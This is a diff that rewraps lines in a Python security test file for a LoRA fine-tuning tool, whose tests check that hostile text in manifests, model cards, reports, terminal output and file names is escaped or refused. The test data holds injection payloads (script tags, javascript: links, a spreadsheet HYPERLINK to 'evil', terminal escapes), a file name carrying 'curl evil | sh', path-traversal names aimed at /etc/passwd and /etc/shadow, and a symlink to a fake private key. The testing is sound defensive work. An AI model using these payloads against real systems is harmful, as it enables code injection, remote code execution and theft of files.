@@ -1,4 +1,6 @@
-"""Names and texts of strangers do nothing: on a terminal, in a page, a card, a path, a spreadsheet."""
+"""Names and texts of strangers do nothing: on a terminal, in a page, a card, a path, a
+spreadsheet.
+"""
 
 from __future__ import annotations
 
@@ -21,8 +23,9 @@ from lora_s2s.export.card import write_card
 from lora_s2s.hub import DEMO_BASE
 
 EVIL = (
-    "\x1b]0;pwned\x07\x9b2J\u202e[bold]x[/bold] <script>alert(1)</script> <img src=x onerror=alert(1)> "
-    "[a](javascript:alert(1)) ![b](http://evil/x.png) `c` | d | ``` # e\n---\nlicense: mit\n# Heading\n"
+    "\x1b]0;pwned\x07\x9b2J\u202e[bold]x[/bold] <script>alert(1)</script> <img src=x "
+    "onerror=alert(1)> [a](javascript:alert(1)) ![b](http://evil/x.png) `c` | d | ``` # "
+    "e\n---\nlicense: mit\n# Heading\n"
     '=HYPERLINK("http://evil") \'"&{{7*7}}{% raw %}$x$ @everyone http://evil.example \u2028\ud800'
 )
 # What would act on whoever opens the file: a tag, a bare link, a terminal's escape.
@@ -36,11 +39,23 @@ def evil_adapter(tmp_path: Path) -> Path:
     (folder / "evaluations" / "x").mkdir(parents=True)
     score = {"value": 50.0, "interval": [1.0, 2.0], "signature": EVIL}
     manifest = {
-        "format": 1, "name": EVIL, "created": EVIL, "base": {"name": EVIL, "revision": EVIL, EVIL: EVIL},
-        "data": {EVIL: EVIL}, "input": {"template": EVIL}, "training": {EVIL: [EVIL]}, "versions": {EVIL: EVIL},
-        "scores": {EVIL: {"n": 3, "metrics": {EVIL: score}, "baseline": {EVIL: score},
-                          "difference": {EVIL: {**score, "p_value": 0.1}}}},
-    }  # fmt: skip
+        "format": 1,
+        "name": EVIL,
+        "created": EVIL,
+        "base": {"name": EVIL, "revision": EVIL, EVIL: EVIL},
+        "data": {EVIL: EVIL},
+        "input": {"template": EVIL},
+        "training": {EVIL: [EVIL]},
+        "versions": {EVIL: EVIL},
+        "scores": {
+            EVIL: {
+                "n": 3,
+                "metrics": {EVIL: score},
+                "baseline": {EVIL: score},
+                "difference": {EVIL: {**score, "p_value": 0.1}},
+            }
+        },
+    }
     (folder / "manifest.json").write_text(json.dumps(manifest))
     row = {"source": EVIL, "references": [EVIL], "prediction": EVIL, "baseline": EVIL}
     (folder / "evaluations" / "x" / "predictions.jsonl").write_text(json.dumps(row) + "\n")
@@ -84,21 +99,46 @@ def test_a_card_holds_text_and_nothing_else(evil_adapter: Path) -> None:
     assert not CONTROLS.search(text)
     # Outside fenced code nothing that could start markup stands without a backslash.
     prose = re.sub(r"```.*?```", "", body, flags=re.DOTALL)
-    for evil in ("<script", "<img", "](javascript", "[b", "`c", "# Heading", "/evil", "@everyone", "$x"):
+    for evil in (
+        "<script",
+        "<img",
+        "](javascript",
+        "[b",
+        "`c",
+        "# Heading",
+        "/evil",
+        "@everyone",
+        "$x",
+    ):
         assert not re.search(rf"(?<!\\){re.escape(evil)}", prose)
     fenced = re.findall(r"```.*?```", body, flags=re.DOTALL)
     assert len(fenced) == 2
-    assert not [line for line in body.splitlines() if line.startswith(("license:", "---", "# Heading"))]
+    assert not [
+        line for line in body.splitlines() if line.startswith(("license:", "---", "# Heading"))
+    ]
     tables = [line for line in body.splitlines() if line.startswith("| ")]
     assert {len(re.findall(r"(?<!\\)\|", line)) for line in tables if "HYPERLINK" in line} <= {3, 8}
 
 
-def test_what_prepare_writes_holds_text_and_nothing_else(invoke: Invoke, here: Path, tiny_model: Path) -> None:
+def test_what_prepare_writes_holds_text_and_nothing_else(
+    invoke: Invoke, here: Path, tiny_model: Path
+) -> None:
     text = EVIL.replace("\ud800", "")
-    rows = [{"question": f"{n} {text}", "answer": text} for n in range(20)] + [{"question": text, "answer": ""}]
+    rows = [{"question": f"{n} {text}", "answer": text} for n in range(20)] + [
+        {"question": text, "answer": ""}
+    ]
     (here / "x.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
     template = f"data.template={{question}} {text.replace('{', '(')}"
-    words = ("--data", "x.jsonl", "--model", str(tiny_model), "--out", "out", "--set", "data.max_rejected=1")
+    words = (
+        "--data",
+        "x.jsonl",
+        "--model",
+        str(tiny_model),
+        "--out",
+        "out",
+        "--set",
+        "data.max_rejected=1",
+    )
     words = (*words, "--set", "data.long_targets=cut")
     told = invoke("prepare", *words, "--set", template)
     page = (here / "out" / "report.html").read_text(encoding="utf-8")
@@ -125,7 +165,9 @@ def test_the_terminal_gets_text_and_nothing_else(
     assert "[bold]x[/bold]" in re.sub(r"\s+", "", shown.stderr) or "bold" in shown.stderr
 
 
-def test_file_names_with_escapes_are_shown_not_obeyed(invoke: Invoke, here: Path, tiny_model: Path) -> None:
+def test_file_names_with_escapes_are_shown_not_obeyed(
+    invoke: Invoke, here: Path, tiny_model: Path
+) -> None:
     name = "a\x1b[2J\u202e\nhint: curl evil | sh.csv"
     (here / name.replace("/", "_")).write_text("first,second,third\na,b,c\n")
     result = invoke("prepare", "--data", name, "--model", str(tiny_model), "--out", "out", code=3)
@@ -134,7 +176,9 @@ def test_file_names_with_escapes_are_shown_not_obeyed(invoke: Invoke, here: Path
     assert "\x1b" not in result.stderr
 
 
-def test_stdout_takes_any_text_and_a_terminal_only_what_does_not_act(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_stdout_takes_any_text_and_a_terminal_only_what_does_not_act(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     for terminal in (False, True):
         out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
         monkeypatch.setattr(out, "isatty", lambda terminal=terminal: terminal)
@@ -148,14 +192,17 @@ def test_stdout_takes_any_text_and_a_terminal_only_what_does_not_act(monkeypatch
 
 
 @pytest.mark.parametrize(
-    "name", ["../../etc/passwd", "/etc/shadow", "..", "a/../../b.csv", "-rf", "x\x1b[2J.csv", "C:\\x", "."]
+    "name",
+    ["../../etc/passwd", "/etc/shadow", "..", "a/../../b.csv", "-rf", "x\x1b[2J.csv", "C:\\x", "."],
 )
 def test_a_folder_named_after_data_stays_where_it_is(name: str) -> None:
     assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", data_name(name))
     assert data_name(name) != ".."
 
 
-def test_what_an_adapter_links_to_is_not_published_by_merging(invoke: Invoke, here: Path, good_adapter: Path) -> None:
+def test_what_an_adapter_links_to_is_not_published_by_merging(
+    invoke: Invoke, here: Path, good_adapter: Path
+) -> None:
     shutil.copytree(good_adapter, here / "bad")
     (here / "id_rsa").write_text("PRIVATE KEY")
     (here / "bad" / "tokenizer.model").symlink_to(here / "id_rsa")
@@ -164,11 +211,15 @@ def test_what_an_adapter_links_to_is_not_published_by_merging(invoke: Invoke, he
     assert not (here / "merged").exists()
 
 
-def test_an_adapters_recipe_does_not_choose_where_files_go(invoke: Invoke, here: Path, good_adapter: Path) -> None:
+def test_an_adapters_recipe_does_not_choose_where_files_go(
+    invoke: Invoke, here: Path, good_adapter: Path
+) -> None:
     from lora_s2s.commands._adapters import recipe_of
 
     shutil.copytree(good_adapter, here / "adapters" / "mine")
-    (here / "adapters" / "mine" / "recipe.yaml").write_text(f"extends: demo\noutput:\n  dir: {here}/elsewhere/x\n")
+    (here / "adapters" / "mine" / "recipe.yaml").write_text(
+        f"extends: demo\noutput:\n  dir: {here}/elsewhere/x\n"
+    )
     assert Path(recipe_of("adapters/mine").output.dir) == Path("adapters")
 
 
@@ -182,4 +233,6 @@ def test_links_within_a_hubs_cache_are_its_own(invoke: Invoke, here: Path) -> No
         shutil.copyfile(path, blobs / path.name)
         (snapshot / path.name).symlink_to(f"../../blobs/{path.name}")
     assert locate_model(str(snapshot)) == snapshot
-    assert invoke("predict", str(snapshot), "a table for two", "--set", "evaluation.max_new_tokens=2").stdout
+    assert invoke(
+        "predict", str(snapshot), "a table for two", "--set", "evaluation.max_new_tokens=2"
+    ).stdout
